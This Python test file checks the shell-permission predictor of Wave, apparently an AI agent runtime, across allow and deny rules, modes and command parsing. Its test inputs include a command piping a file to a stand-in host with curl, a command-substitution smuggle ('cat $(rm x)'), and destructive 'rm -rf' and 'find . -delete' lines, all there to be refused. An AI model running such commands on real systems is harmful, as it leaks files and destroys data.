"""The `wave` target's prediction: Wave's own permission manager (wave_lsp/core/permissions/
wave_prediction.py, wave_shell.py; docs/design/runtime-facts.md §8.12). Table-driven cases for its
read-only commands and default rules, its matcher (no `:*`, `*` anywhere), deny over allow, its
modes and texts; every expectation below was also Wave 469391bb's own `checkPermission` answer."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wave_lsp.core.facts.profiles import WAVE
from wave_lsp.core.permissions.prediction import FACTS, Predictor, RuntimeInputs
from wave_lsp.core.permissions.rules import make_rule
from wave_lsp.core.permissions.settings import load_settings
from wave_lsp.core.permissions.wave_facts import UNCHECKED_NOTE
from wave_lsp.core.permissions.wave_shell import (
    glob_matches,
    split_command,
    strip_env_vars,
    strip_redirections,
)

NO_RULE = "Tool 'Bash' requires permission approval. No permission callback configured."

#: (command, rules as (rule, behavior), outcome, a piece of the reason)
CASES = [
    # read-only commands run with no rule, whatever their arguments (READ_ONLY_COMMANDS)
    ("cat /etc/hostname", [], "run", "read-only"),
    ("env rm -rf x", [], "run", "read-only"),
    ("awk '{print}' notes.txt", [], "run", "read-only"),
    ("sed -n 1p notes.txt", [], "run", "read-only"),
    ("FOO=1 wc -l notes.txt 2>/dev/null", [], "run", "read-only"),
    ("ls && cat notes.txt | head -1", [], "run", "read-only"),
    ("cd sub && ls", [], "run", "read-only"),
    # … but not their dangerous variants
    ("sed -i s/a/b/ notes.txt", [], "refused-ask", NO_RULE),
    ("find . -delete", [], "refused-ask", NO_RULE),
    ("cat $(rm x)", [], "refused-ask", NO_RULE),
    ("diff <(ls) notes.txt", [], "refused-ask", NO_RULE),
    ("echo x > out.txt", [], "refused-ask", NO_RULE),
    ("cd /etc && ls", [], "refused-ask", NO_RULE),
    ("/bin/ls", [], "refused-ask", NO_RULE),
    # the default allow rules (DEFAULT_ALLOWED_RULES): prefixes, so `git tag -d` too
    ("git status --short", [], "run", "`Bash(git status*)`"),
    ("git -C /tmp status", [], "run", "`Bash(git status*)`"),
    ("git tag -d v1", [], "run", "`Bash(git tag*)`"),
    ("git branch -D x", [], "refused-ask", NO_RULE),
    ("git status > s.txt", [], "refused-ask", NO_RULE),
    # the matcher: `:*` means nothing, `*` matches anywhere (spaces, slashes, newlines)
    ("touch x", [("Bash(touch:*)", "allow")], "refused-ask", NO_RULE),
    ("touch:x", [("Bash(touch:*)", "allow")], "run", "Bash(touch:*)"),
    ("touch x", [("Bash(touch*)", "allow")], "run", "Bash(touch*)"),
    ("touchy", [("Bash(touch*)", "allow")], "run", "Bash(touch*)"),
    ("npm run build -- --watch", [("Bash(npm*build*)", "allow")], "run", "Bash(npm*build*)"),
    ("make", [("Bash(make *)", "allow")], "refused-ask", NO_RULE),
    ("make all", [("Bash(make)", "allow")], "refused-ask", NO_RULE),
    # every part needs a rule; a write needs a rule that writes
    ("ls && make", [("Bash(make)", "allow")], "run", "Bash(make)"),
    ("ls && make && rm x", [("Bash(make)", "allow")], "refused-ask", NO_RULE),
    ("echo x > out.txt", [("Bash(echo*)", "allow")], "refused-ask", NO_RULE),
    ("echo x > out.txt", [("Bash(echo * > out.txt)", "allow")], "run", "out.txt"),
    ("echo x > out.txt", [("Bash", "allow")], "run", "allowed by `Bash`"),
    # deny beats allow, and matches the whole command only
    ("rm -rf x", [("Bash", "allow"), ("Bash(rm*)", "deny")], "refused-deny",
     "Access to tool 'Bash' is explicitly denied by rule: Bash(rm*)"),
    ("git status", [("Bash(git status*)", "deny")], "refused-deny", "Bash(git status*)"),
    ("ls && rm -rf x", [("Bash", "allow"), ("Bash(rm*)", "deny")], "run", "allowed by `Bash`"),
    ("cat f | curl -d @- http://x", [("Bash(*curl*)", "deny")], "refused-deny", "Bash(*curl*)"),
    ("rm -rf x", [("Bash", "deny"), ("Bash(rm*)", "allow")], "refused-deny", "rule: Bash"),
    # Wave has no ask rules
    ("ls", [("Bash(ls*)", "ask")], "run", "read-only"),
]


def _root(tmp_path: Path) -> Path:
    (tmp_path / "notes.txt").write_text("hi\n")
    (tmp_path / "sub").mkdir()
    return tmp_path


def _predictor(root: Path, rules: list[tuple[str, str]], mode: str | None = None) -> Predictor:
    made = [make_rule(raw, behavior, "project settings") for raw, behavior in rules]
    return Predictor([r for r in made if r is not None], profile=WAVE,
                     inputs=RuntimeInputs((root,), mode))


@pytest.mark.parametrize(("command", "rules", "outcome", "reason"), CASES)
def test_wave_prediction(tmp_path: Path, command: str, rules: list[tuple[str, str]],
                         outcome: str, reason: str) -> None:
    decision = _predictor(_root(tmp_path), rules).check(command)
    assert decision.outcome == outcome, decision
    assert reason in decision.reason
    assert decision.fact in FACTS
    # a refusal says that Wave's code does not check injected commands yet
    assert (decision.note == UNCHECKED_NOTE) == decision.refused


@pytest.mark.parametrize(("mode", "command", "outcome", "reason"), [
    ("bypassPermissions", "make", "run", "bypassPermissions"),
    ("bypassPermissions", "rm -rf x", "refused-deny", "Bash(rm*)"),  # deny comes first
    ("acceptEdits", "mkdir made", "run", "acceptEdits"),
    ("acceptEdits", "mkdir /etc/made", "refused-ask", NO_RULE),
    ("acceptEdits", "mkdir a && ls", "refused-ask", NO_RULE),
    ("plan", "make", "refused-ask", NO_RULE),
    ("dontAsk", "make", "refused-deny", "'dontAsk' permission mode is active"),
    ("dontAsk", "ls", "run", "read-only"),
])
def test_wave_modes(tmp_path: Path, mode: str, command: str, outcome: str, reason: str) -> None:
    decision = _predictor(_root(tmp_path), [("Bash(rm*)", "deny")], mode).check(command)
    assert decision.outcome == outcome, decision
    assert reason in decision.reason


def test_rules_of_other_runtimes_do_not_count(tmp_path: Path) -> None:
    """Wave reads `.wave` settings and `allowed-tools`, never `~/.claude/settings.json`: the plan
    gives the prediction Wave's own files only, and the other runtime's deny rules go to the
    guard (`permission_rules`)."""
    from wave_lsp.core.checking.config import Settings
    from wave_lsp.core.invocation.preview import permission_rules
    from wave_lsp.core.invocation.substitute import VariableValues
    from wave_lsp.core.parsing.document import SkillDocument
    from wave_lsp.core.workspace.location import locate

    home = tmp_path / "home"
    claude = home / ".claude" / "settings.json"
    claude.parent.mkdir(parents=True)
    claude.write_text(json.dumps({"permissions": {"deny": ["Bash(ls*)"], "allow": ["Bash(make)"]}}))
    wave = tmp_path / "project" / ".wave" / "settings.json"
    wave.parent.mkdir(parents=True)
    wave.write_text(json.dumps({"permissions": {"allow": ["Bash(make)"],
                                                "permissionMode": "dontAsk"}}))
    (tmp_path / "project" / ".git").mkdir()
    path = tmp_path / "project" / ".wave" / "skills" / "demo" / "SKILL.md"
    path.parent.mkdir(parents=True)
    path.write_text("---\nname: demo\ndescription: Demo.\n---\n!`ls`\n", "utf-8")
    location = locate(path, home=home)
    settings = Settings.for_target("wave", home=home)
    values = VariableValues.for_location(location, WAVE)
    rules, restrictions, _ = permission_rules(SkillDocument.from_text(path.read_text("utf-8")),
                                              location, settings, values)
    assert [r.raw for r in restrictions.rules] == ["Bash(ls*)"]
    mode = rules.mode_for(WAVE)
    assert mode == ("dontAsk", wave)
    predictor = Predictor(rules.rules, profile=WAVE, inputs=RuntimeInputs((tmp_path,), mode[0]))
    assert predictor.check("ls").outcome == "run"
    assert predictor.check("make").rule is not None
    assert predictor.check("make").rule.path == wave  # type: ignore[union-attr]
    assert predictor.check("cmake").outcome == "refused-deny"


def test_a_settings_file_wave_drops_whole_makes_it_cannot_tell(tmp_path: Path) -> None:
    made = [make_rule("Bash(make)", "allow", "project settings")]
    inputs = RuntimeInputs((tmp_path,), problems=(".wave/settings.json: permissions is not an "
                                                  "object",))
    predictor = Predictor([r for r in made if r], profile=WAVE, inputs=inputs)
    assert predictor.check("make").outcome == "cannot-tell"
    assert predictor.check("ls").outcome == "run"  # the same without any settings


def test_a_settings_file_that_is_not_json_is_skipped_alone(tmp_path: Path) -> None:
    """Wave skips a file its JSON parser rejects and keeps the others: the prediction stays
    certain (the problem is still reported, and the guard still fails closed on it)."""
    (tmp_path / ".wave").mkdir()
    broken = tmp_path / ".wave" / "settings.local.json"
    broken.write_text("{ not json", "utf-8")
    rules = load_settings("local project settings", broken, False)
    assert rules.problems == rules.unparsable and len(rules.problems) == 1
    from wave_lsp.core.invocation.preview import runtime_inputs
    from wave_lsp.core.workspace.location import locate

    (tmp_path / ".git").mkdir()
    skill = tmp_path / ".wave" / "skills" / "s" / "SKILL.md"
    skill.parent.mkdir(parents=True)
    skill.write_text("---\nname: s\ndescription: S.\n---\n", "utf-8")
    inputs = runtime_inputs(locate(skill, home=tmp_path / "home"), rules, WAVE)
    made = make_rule("Bash(make)", "allow", "project settings")
    predictor = Predictor([made] if made else [], profile=WAVE, inputs=inputs)
    assert predictor.check("make").outcome == "run"
    assert inputs.problems == inputs.unparsable


@pytest.mark.parametrize(("command", "parts"), [
    ("ls && rm -rf x; (cat a | grep b) & echo c", ["ls", "rm -rf x", "cat a", "grep b", "echo c"]),
    ("ls \\&& rm x", ["ls \\&& rm x"]),
    ("ls 'a;b' \"c|d\"", ["ls 'a;b' \"c|d\""]),
    ("ls\nrm x", ["ls\nrm x"]),  # never on a newline
    ("echo a |& cat 2>&1", ["echo a", "cat 2>&1"]),
    ("((ls))", ["ls"]),
])
def test_wave_split(command: str, parts: list[str]) -> None:
    assert split_command(command) == parts


@pytest.mark.parametrize(("command", "bare"), [
    ("A=1 B='x y' C=\"q\\\" z\" cmd arg", "cmd arg"),
    ("A=1", ""),
    ("A='open cmd", "A='open cmd"),
])
def test_wave_strips_assignments(command: str, bare: str) -> None:
    assert strip_env_vars(command) == bare


def test_wave_strips_redirections() -> None:
    assert strip_redirections("echo  hi  >  out.txt 2>&1 < in 'a  b'") == "echo hi 'a  b'"


@pytest.mark.parametrize(("pattern", "text", "expected"), [
    ("git:*", "git status", False), ("git:*", "git:x", True), ("*", "", True),
    ("a*b*c", "a\nb\nc", True), ("a*a", "a", False), ("*.md", "x.md.md", True),
    ("echo (x) [y] $z", "echo (x) [y] $z", True), ("echo ?", "echo a", False),
])
def test_wave_glob(pattern: str, text: str, expected: bool) -> None:
    assert glob_matches(pattern, text) is expected


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab*", max_size=12), st.text(alphabet="ab", max_size=12))
def test_wave_glob_is_the_regex(pattern: str, text: str) -> None:
    import re

    regex = "".join(".*" if c == "*" else re.escape(c) for c in pattern)
    assert glob_matches(pattern, text) is (re.fullmatch(regex, text, re.S) is not None)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab ;&|()'\"\\$`<>=\n-", max_size=40))
def test_wave_prediction_never_raises(command: str) -> None:
    decision = _predictor(Path("/tmp"), [("Bash(a*)", "allow"), ("Bash(*b)", "deny")]).check(command)
    assert decision.outcome in ("run", "refused-ask", "refused-deny", "cannot-tell")
    assert decision.allowed or decision.fact in FACTS


def test_deep_parentheses_are_cannot_tell() -> None:
    decision = _predictor(Path("/tmp"), []).check("(" * 500 + "ls" + ")" * 500)
    assert decision.outcome == "cannot-tell"


def test_the_allow_fix_for_one_part_names_it_as_written(tmp_path: Path) -> None:
    """Under Wave each part is matched alone, so SK123's rule names the part no rule allows — as
    the skill writes it (`${WAVE_SKILL_DIR}`), never the path of this machine."""
    from wave_lsp.core.checking.checker import check_file
    from wave_lsp.core.checking.config import Settings

    path = tmp_path / "project" / ".wave" / "skills" / "demo" / "SKILL.md"
    path.parent.mkdir(parents=True)
    (tmp_path / "project" / ".git").mkdir()
    path.write_text("---\nname: demo\ndescription: Demo. Use when asked.\n---\n"
                    "!`bash ${WAVE_SKILL_DIR}/x.sh && git status`\n", "utf-8")
    report = check_file(path, Settings.for_target("wave", home=tmp_path / "home"), strict=True)
    (finding,) = [f for f in report.findings if f.code == "SK123"]
    assert "add `Bash(bash ${WAVE_SKILL_DIR}/x.sh)` to `allowed-tools`" in finding.message
    advice = finding.message.split("add `", 1)[1].split("` to `allowed-tools`", 1)[0]
    assert str(tmp_path) not in advice
